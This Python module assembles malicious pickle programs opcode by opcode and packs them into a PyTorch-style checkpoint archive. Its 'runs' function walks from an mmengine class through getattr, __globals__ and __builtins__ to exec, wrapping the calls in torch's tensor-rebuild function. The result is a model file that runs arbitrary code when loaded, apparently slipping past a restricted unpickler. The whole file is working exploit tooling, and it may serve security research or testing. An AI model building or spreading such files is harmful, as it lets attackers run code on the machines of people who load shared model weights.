"""Programs of pickle, put together opcode by opcode, as Python's own pickler never writes them."""

import pickle
import struct
import zipfile


def text(value):
    return b'X' + struct.pack('<I', len(value)) + value.encode()


def name(dotted):
    module, _, last = dotted.rpartition('.')
    return f'c{module}\n{last}\n'.encode()


def together(*items):
    return b'(' + b''.join(items) + b't'


def call(dotted, *arguments):
    return name(dotted) + together(*arguments) + b'R'


def bytes_of(count, letter='A'):
    return call('_codecs.encode', text(letter * count), text('latin1'))


def number(value):
    data = pickle.encode_long(value)
    return b'\x8a' + bytes([len(data)]) + data


def write(file, program):
    pickled = b'\x80\2}(' + text('state_dict') + b'}' + text('value') + program + b'u.'
    with zipfile.ZipFile(file, 'w') as archive:
        for part, data in (('data.pkl', pickled), ('version', b'3\n'), ('byteorder', b'little')):
            archive.writestr(f'a/{part}', data)


def called(function, result, *arguments):
    """The call of any function at hand: torch calls it to rebuild a tensor, if its result is of
    a class at hand."""
    rebuild = name('torch._tensor._rebuild_from_type_v2')
    return rebuild + together(function, result, together(*arguments), b'}') + b'R'


def attribute(owner, attribute):
    return call('builtins.getattr', owner, text(attribute))


def runs(code):
    """A program that runs code where a file may call ``getattr``, as mmengine lets it: from a class
    to the variables of its module, their builtins, and ``exec``."""
    history = name('mmengine.logging.history_buffer.HistoryBuffer')
    variables = attribute(attribute(history, '__init__'), '__globals__')
    kind = attribute(variables, '__class__')
    builtins = called(attribute(variables, '__getitem__'), kind, text('__builtins__'))
    kind = attribute(name('builtins.getattr'), '__class__')
    execute = called(attribute(builtins, '__getitem__'), kind, text('exec'))
    return called(execute, kind, text(code), b'}')
